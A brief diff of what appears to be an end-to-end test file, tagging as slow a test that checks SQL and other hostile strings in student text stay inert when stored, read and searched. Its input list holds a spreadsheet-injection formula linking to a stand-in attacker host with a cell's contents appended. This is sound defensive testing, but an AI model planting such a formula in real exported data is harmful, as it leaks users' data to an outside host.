@@ -25,9 +25,9 @@ const NASTY = [
   '=HYPERLINK("http://evil.example"&A1)',
 ]
 
-test('SQL in a text is text wherever it is written, read and searched for [S102 S104]', async ({
-  academy,
-}) => {
+test('SQL in a text is text wherever it is written, read and searched for [S102 S104]', {
+  tags: 'slow',
+}, async ({ academy }) => {
   const { call: admin } = await academy.signInAdmin()
   const { uid, call, profile } = await academy.aStudent()
   for (const text of NASTY) {
